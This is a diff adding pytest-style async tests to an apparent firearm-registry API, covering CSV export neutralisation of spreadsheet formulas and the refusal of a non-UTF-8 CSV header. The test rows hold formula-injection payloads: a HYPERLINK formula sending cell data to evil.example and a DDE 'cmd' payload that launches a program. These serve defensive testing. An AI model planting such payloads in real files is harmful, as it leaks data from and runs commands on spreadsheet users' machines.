@@ -130,3 +130,73 @@ async def test_import_endpoint_refuses_a_body_declared_in_another_charset_than_u
     )
     assert utf8.status_code == 201, utf8.text
     assert utf8.json()["inserted"] == 2
+
+
+async def test_csv_export_neutralises_spreadsheet_formulas_and_imports_back_unchanged(
+    client: AsyncTestClient,  # type: ignore[type-arg]
+    auth: TokenFactory,
+    conn: db.Conn,
+) -> None:
+    headers = await auth("records-officer")
+    rows = [
+        ("-F1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)"),
+        ("F2", "+cmd|' /C calc'!A0", "'=stays quoted"),
+        ("F3", "'plain", "MAUSER F3"),
+    ]
+    lines = [
+        json.dumps(
+            {
+                "kind": "firearm",
+                "firearm_type": "rifle",
+                "manufacturer": "Mauser",
+                "country_of_manufacture": "DE",
+                "serial": serial,
+                "model": model,
+                "marking_stamped": stamped,
+            }
+        )
+        for serial, model, stamped in rows
+    ]
+    imported = await client.post(
+        "/api/v1/imports",
+        content=("\n".join(lines) + "\n").encode(),
+        headers={**headers, "Content-Type": "application/x-ndjson"},
+    )
+    assert imported.status_code == 201, imported.text
+    assert imported.json()["inserted"] == 3
+    stored = await conn.fetch("SELECT serial, model FROM item ORDER BY item_id")
+    assert [(r["serial"], r["model"]) for r in stored] == [(serial, model) for serial, model, _ in rows]
+
+    export = await client.get("/api/v1/items/export", params={"format": "csv"}, headers=headers)
+    assert export.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
+    # A spreadsheet evaluates a cell that begins with = + - @ as a formula: none may reach it as one.
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
+    exported = list(csv.DictReader(io.StringIO(export.text)))
+    assert exported[0]["model"] == "'" + rows[0][1]
+    assert exported[1]["marking_stamped"] == "''=stays quoted"
+    assert exported[2]["model"] == "'plain"
+
+    # and the export imports into another registry as it is (here: the same identities, none rejected)
+    again = await client.post(
+        "/api/v1/imports", content=export.content, headers={**headers, "Content-Type": "text/csv"}
+    )
+    assert again.status_code == 201, again.text
+    assert (again.json()["already_registered"], again.json()["rejected"]) == (3, 0)
+
+
+async def test_import_of_a_csv_whose_header_is_not_utf8_is_refused_as_a_problem(
+    client: AsyncTestClient,  # type: ignore[type-arg]
+    auth: TokenFactory,
+    conn: db.Conn,
+) -> None:
+    # A Latin-1 file from a spreadsheet: its accented column name could not be put in the problem (500).
+    headers = {**(await auth("records-officer")), "Content-Type": "text/csv"}
+    body = "kind,manufacturer,country_of_manufacture,serial,Modèle\nfirearm,Steyr,AT,L1-1,SSG\n".encode("latin-1")
+    response = await client.post("/api/v1/imports", content=body, headers=headers)
+    assert response.status_code == 422
+    assert response.headers["content-type"] == "application/problem+json"
+    problem = response.json()
+    assert problem["type"] == PROBLEM + "import-invalid-file"
+    assert problem["unknown_columns"] == ["Mod\ufffdle"]
+    assert await counts(conn) == (0, 0, 0, 0)
